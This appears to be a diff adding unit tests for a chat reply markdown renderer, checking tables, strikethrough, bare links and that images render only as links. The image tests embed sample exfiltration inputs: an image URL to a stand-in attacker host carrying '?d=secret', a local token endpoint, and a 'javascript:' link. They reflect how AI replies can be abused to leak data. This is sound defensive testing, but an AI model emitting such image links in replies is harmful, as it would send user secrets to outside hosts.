@@ -27,3 +27,25 @@ describe("a reply's markdown", () => {
     expect(render("[click](javascript:alert(1))")).not.toContain("javascript:");
   });
 });
+
+describe("a reply's GitHub markdown", () => {
+  it("renders tables (in a box that scrolls sideways), strikethrough and bare URLs as links", () => {
+    const table = render("| a | b |\n|---|---|\n| 1 | 2 |");
+    expect(table).toMatch(/<div[^>]*class="[^"]*overflow-x-auto[^"]*"[^>]*><table[^>]*><thead><tr><th>a<\/th><th>b<\/th>/);
+    expect(render("~~gone~~ now")).toContain("<del>gone</del> now");
+    expect(render("See https://example.com/docs for more")).toMatch(
+      /<a href="https:\/\/example.com\/docs"[^>]*rel="noopener noreferrer nofollow"[^>]*>https:\/\/example.com\/docs<\/a>/,
+    );
+  });
+
+  it("shows an image as a link named by its alt text, never loading it", () => {
+    const away = render("![a chart](https://attacker.example/x.png?d=secret)");
+    expect(away).not.toContain("<img");
+    expect(away).toMatch(/<a href="https:\/\/attacker.example\/x.png\?d=secret"[^>]*>a chart<\/a>/);
+    const here = render("![pixel](/api/v1/tokens)");
+    expect(here).not.toContain("<img");
+    expect(here).toMatch(/<a href="\/api\/v1\/tokens"[^>]*>pixel<\/a>/);
+    expect(render("![](https://example.com/a.png)")).toMatch(/<a href="https:\/\/example.com\/a.png"[^>]*>https:\/\/example.com\/a.png<\/a>/);
+    expect(render("![x](javascript:alert(1))")).not.toContain("javascript:");
+  });
+});
